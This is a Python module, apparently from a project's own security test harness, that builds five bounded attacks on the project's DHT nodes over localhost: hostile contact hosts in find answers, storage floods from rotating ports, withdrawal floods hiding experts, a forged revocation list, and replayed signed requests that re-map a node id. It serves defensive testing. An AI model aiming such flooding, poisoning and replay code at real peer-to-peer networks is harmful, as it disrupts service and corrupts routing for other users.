"""DHT attacks of issue 11, items 1-5, crafted with the project's own message and record code.

Requests are built by `ProtocolCore.request` (signed envelopes from fresh identities) and records by
`sign_record`; nothing re-implements the wire format. Every attack is bounded in count and time and
only sends to 127.0.0.1. Each returns a dict of what was sent and what the victims did with it.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import os
import time
from typing import Any

from node_agent.dht import DHTError, DHTNode
from node_agent.dht.config import DHTConfig
from node_agent.dht.endpoints import parse_endpoint
from node_agent.dht.protocol import ProtocolCore, Response
from node_agent.dht.records import sign_record
from node_agent.identity import Identity
from node_agent.moe.announce import announcement_value, prefix_key
from node_agent.portal.gate import CredentialPolicy, install_credential_checks
from node_agent.portal.revocations import revocation_list_value, revocations_key

Address = tuple[str, int]
#: Contact hosts a hostile answer names (item 1): a NUL, IPv6 in an IPv4 socket, names, nonsense.
HOSTILE_HOSTS = ("a\x00b", "::1", "localhost", "256.1.1.1", "example.invalid", "")
STORE_BUDGET = 56 * 1024  # bytes of records per store datagram (the datagram limit is 60 KiB)


def address_of(endpoint: str) -> Address:
    host, port, _ = parse_endpoint(endpoint)
    return host, port


class RawPeer(asyncio.DatagramProtocol):
    """One UDP port speaking the DHT protocol through `ProtocolCore` (signing, parsing), no routing."""

    def __init__(self, identity: Identity, client_mode: bool) -> None:
        self.core = ProtocolCore(identity, DHTConfig(), client_mode)
        self.transport: asyncio.DatagramTransport | None = None
        self.waiters: dict[bytes, asyncio.Future[Response]] = {}
        self.received = 0
        self.accepted = 0  # records a victim said it stored

    @classmethod
    async def open(cls, identity: Identity | None = None, client_mode: bool = True) -> RawPeer:
        loop = asyncio.get_running_loop()
        peer = cls(identity or Identity.generate(), client_mode)
        await loop.create_datagram_endpoint(lambda: peer, local_addr=("127.0.0.1", 0))
        return peer

    @property
    def address(self) -> Address:
        assert self.transport is not None
        return self.transport.get_extra_info("sockname")[:2]

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport  # type: ignore[assignment]

    def datagram_received(self, data: bytes, addr: tuple) -> None:  # type: ignore[override]
        self.received += 1
        event = self.core.receive(data, (str(addr[0]), int(addr[1])), time.time())
        if not isinstance(event, Response):
            return
        flags = event.payload.get("ok")
        if isinstance(flags, list):
            self.accepted += sum(1 for f in flags if f is True)
        waiter = self.waiters.pop(event.rid, None)
        if waiter is not None and not waiter.done():
            waiter.set_result(event)

    def error_received(self, exc: Exception) -> None:
        pass

    def send(self, kind: str, payload: dict[str, Any], to: Address, expected: bytes | None = None) -> bytes:
        rid, data = self.core.request(kind, payload, to, expected, time.time())
        self.send_raw(data, to)
        return rid

    def send_raw(self, data: bytes, to: Address) -> None:
        if self.transport is not None and not self.transport.is_closing():
            self.transport.sendto(data, to)

    async def request(
        self, kind: str, payload: dict[str, Any], to: Address, timeout: float = 2.0
    ) -> Response | None:
        waiter = asyncio.get_running_loop().create_future()
        rid = self.send(kind, payload, to)
        self.waiters[rid] = waiter
        try:
            return await asyncio.wait_for(waiter, timeout)
        except TimeoutError:
            return None
        finally:
            self.waiters.pop(rid, None)
            self.core.forget(rid)

    def close(self) -> None:
        if self.transport is not None:
            self.transport.close()


def store_payloads(records: list[Any]) -> list[dict[str, Any]]:
    """Pack signed records into store payloads that each fit one datagram."""
    payloads, chunk, used = [], [], 0
    for record in records:
        size = len(record.value_bytes) + len(record.key) + len(record.subkey or "") + 200
        if chunk and (used + size > STORE_BUDGET or len(chunk) >= 250):
            payloads.append({"r": [r.to_wire() for r in chunk]})
            chunk, used = [], 0
        chunk.append(record)
        used += size
    if chunk:
        payloads.append({"r": [r.to_wire() for r in chunk]})
    return payloads


async def windowed_send(
    jobs: list[tuple[RawPeer, dict[str, Any], Address]], until: float, window: int = 8
) -> int:
    """Send store requests with at most `window` unanswered per victim, until done or `until`.

    A determined attacker sends as fast as the victim takes them (a blind flood would mostly be dropped by
    a busy victim's socket); every request waits at most 2 s for its answer.
    """
    gates: dict[Address, asyncio.Semaphore] = {}
    tasks: set[asyncio.Task[Any]] = set()
    sent = 0
    for peer, payload, to in jobs:
        gate = gates.setdefault(to, asyncio.Semaphore(window))
        await gate.acquire()
        if time.time() >= until:
            gate.release()
            break
        task = asyncio.create_task(peer.request("store", payload, to, timeout=2.0))
        task.add_done_callback(lambda _task, gate=gate: gate.release())
        tasks.add(task)
        sent += 1
    await asyncio.gather(*tasks)
    return sent


# ---- item 1: hostile contact hosts ----------------------------------------------------------------------


async def bad_contacts(victims: dict[str, str], duration: float) -> dict[str, Any]:
    """A real node joins (so victims query it) and answers every find with contacts at hostile hosts.

    The contacts' ids sit next to the lookup target, so a lookup tries them first. Then the node leaves.
    """
    evil = await DHTNode.create(initial_peers=list(victims.values()), listen="127.0.0.1:0")
    honest_find = evil.core.handle_find
    served = {"answers": 0}

    def hostile_find(request: Any, now: float) -> tuple[str, dict[str, Any]]:
        kind, payload = honest_find(request, now)
        queries = request.payload.get("q") or []
        for answer, query in zip(payload.get("a", []), queries, strict=False):
            target = query[0]
            answer[0][:0] = [
                [target[:-1] + bytes([target[-1] ^ (k + 1)]), host, 40000 + k]  # next to the target
                for k, host in enumerate(HOSTILE_HOSTS)
            ]
        served["answers"] += 1
        return kind, payload

    evil.core.handle_find = hostile_find  # type: ignore[method-assign]
    await asyncio.sleep(duration)
    await evil.shutdown()
    return {"sent": served["answers"], "notes": {"hostile_hosts": [repr(h) for h in HOSTILE_HOSTS]}}


# ---- item 4: storage without a bound --------------------------------------------------------------------


async def store_flood(victims: dict[str, str], duration: float, records: int, sockets: int) -> dict[str, Any]:
    """16 KiB records in ten keys per identity, each identity on its own UDP port (rotating ports)."""
    peers = [await RawPeer.open() for _ in range(sockets)]
    now = time.time()
    value = os.urandom(16_000)
    per_peer = max(1, records // sockets)
    targets = [address_of(e) for e in victims.values()]
    per_port: list[list[tuple[dict[str, Any], Address, RawPeer]]] = []
    for p, peer in enumerate(peers):
        signed = [
            sign_record(peer.core.identity, f"flood:{p}:{i % 10}", f"{i}", value, now + 3000)
            for i in range(per_peer)
        ]
        per_port.append([(peer, payload, to) for payload in store_payloads(signed) for to in targets])
    # round robin over the ports: every datagram comes from another source port than the one before
    jobs = [job for batch in itertools.zip_longest(*per_port) for job in batch if job is not None]
    sent = await windowed_send(jobs, time.time() + duration)
    await asyncio.sleep(0.5)
    accepted = sum(p.accepted for p in peers)
    for peer in peers:
        peer.close()
    return {
        "sent": sent,
        "notes": {"records_per_victim": per_peer * sockets, "source_ports": sockets,
                  "record_bytes": 16_000, "records_accepted": accepted},
    }  # fmt: skip


async def restore_heap(victims: dict[str, str], duration: float, count: int) -> dict[str, Any]:
    """One record re-stored `count` times with growing expirations (each a fresh signature)."""
    peer = await RawPeer.open()
    now = time.time()
    signed = [
        sign_record(peer.core.identity, "restore:one", None, b"x", now + 600 + i * 0.01) for i in range(count)
    ]
    jobs = [(peer, p, address_of(e)) for p in store_payloads(signed) for e in victims.values()]
    sent = await windowed_send(jobs, time.time() + duration)
    await asyncio.sleep(0.5)
    peer.close()
    return {"sent": sent, "notes": {"re_stores_per_victim": count, "records_accepted": peer.accepted}}


# ---- item 2: hiding experts with withdrawals ------------------------------------------------------------


async def withdrawal_flood(
    victims: dict[str, str], duration: float, owners: int, per_owner: int, prefix: str
) -> dict[str, Any]:
    """Padded, long-lived withdrawn announcements under the expert prefix key (no credential needed)."""
    peers = [await RawPeer.open() for _ in range(owners)]
    now = time.time()
    key = prefix_key(prefix)
    jobs = []
    for peer in peers:
        me = peer.core.identity.node_id
        value = announcement_value("h" * 240 + ":1", me, now, withdrawn=True)
        signed = [
            sign_record(peer.core.identity, key, f"{c}@{me.hex()}", value, now + 3500)
            for c in range(per_owner)
        ]
        jobs += [
            (peer, payload, address_of(e)) for payload in store_payloads(signed) for e in victims.values()
        ]
    sent = await windowed_send(jobs, time.time() + duration)
    await asyncio.sleep(0.5)
    accepted = sum(p.accepted for p in peers)
    for peer in peers:
        peer.close()
    notes = {"key": key, "withdrawals": owners * per_owner, "records_accepted": accepted, "expiry_s": 3500}
    return {"sent": sent, "notes": notes}


# ---- item 3: forged revocation list ---------------------------------------------------------------------


async def forged_revocations(
    victims: dict[str, str], duration: float, project: str, portal_public_key: bytes, revoke: str,
    bootstrap: str,
) -> dict[str, Any]:  # fmt: skip
    """A revocation list signed by a stranger; then a credential-checking reader reads it 3 times."""
    peer = await RawPeer.open()
    now = time.time()
    record = sign_record(peer.core.identity, revocations_key(project), None,
                         revocation_list_value([revoke], now), now + 20 * 3600)  # fmt: skip
    stored = {}
    for name, endpoint in victims.items():
        answer = await peer.request("store", {"r": [record.to_wire()]}, address_of(endpoint), timeout=5.0)
        flags = answer.payload.get("ok") if answer is not None else None
        stored[name] = bool(isinstance(flags, list) and flags and flags[0] is True)
    reader = await DHTNode.create(initial_peers=[bootstrap], client_mode=True)
    policy = CredentialPolicy(project, portal_public_key)
    install_credential_checks(reader, policy)
    reads = 0
    until = time.time() + duration
    while time.time() < until and reads < 50:
        with contextlib.suppress(DHTError):
            await reader.get(revocations_key(project), latest=True)
        reads += 1
        await asyncio.sleep(0.3)
    bootstrap_id = parse_endpoint(bootstrap)[2] or b""
    banned = _banned(reader, bootstrap_id, address_of(bootstrap))
    await reader.shutdown()
    peer.close()
    return {"sent": len(victims), "notes": {"stored_by": stored, "reader_reads": reads,
                                            "reader_banned_bootstrap": banned}}  # fmt: skip


def _banned(node: DHTNode, node_id: bytes, address: Address) -> bool | None:
    """Whether `node` now ignores the peer (by id, address or host); None if that cannot be read."""
    try:
        penalties = node.core.penalties
        now = time.time()
        return any(penalties.is_banned(k, now) for k in (node_id, address, address[0]))
    except Exception:
        return None


# ---- item 5: replayed requests re-map an id -------------------------------------------------------------


async def replay_remap(bootstrap: str, victim: str, victim_id: bytes, count: int) -> dict[str, Any]:
    """Honest nodes send unpinned requests to the bootstrap; an eavesdropper replays each to `victim`.

    The tap on the honest node's socket stands in for an on-path eavesdropper. Then the eavesdropper asks
    the victim (a signed find) where it now believes the honest node lives.
    """
    replayer = await RawPeer.open()
    remapped = 0
    honest_nodes = []
    for _ in range(count):
        honest = await DHTNode.create(listen="127.0.0.1:0")
        honest_nodes.append(honest)
        captured: list[bytes] = []
        transport = honest._transport
        original = transport.sendto
        transport.sendto = lambda data, to, seen=captured, send=original: (seen.append(data), send(data, to))
        with contextlib.suppress(DHTError):  # the bootstrap has no such RPC: only the signed request matters
            await honest.call_rpc(bootstrap.split("/")[0], "bench.hello", {}, timeout=2.0)
        transport.sendto = original
        if captured:
            replayer.send_raw(captured[0], address_of(victim))
            await asyncio.sleep(0.1)
            answer = await replayer.request("find", {"q": [[honest.node_id, None]]}, address_of(victim))
            nodes = answer.payload.get("a", [[[]]])[0][0] if answer is not None else []
            seen = [n for n in nodes if isinstance(n, list) and n and n[0] == honest.node_id]
            if seen and (seen[0][1], seen[0][2]) == replayer.address:
                remapped += 1
    replayer.close()
    for honest in honest_nodes:
        await honest.shutdown()
    return {"sent": count, "notes": {"victim_mapped_id_to_replayer": remapped}}


async def ping(endpoint: str, timeout: float = 3.0) -> bool:
    """A real signed ping; True if the node answered."""
    peer = await RawPeer.open()
    try:
        return await peer.request("ping", {}, address_of(endpoint), timeout) is not None
    finally:
        peer.close()
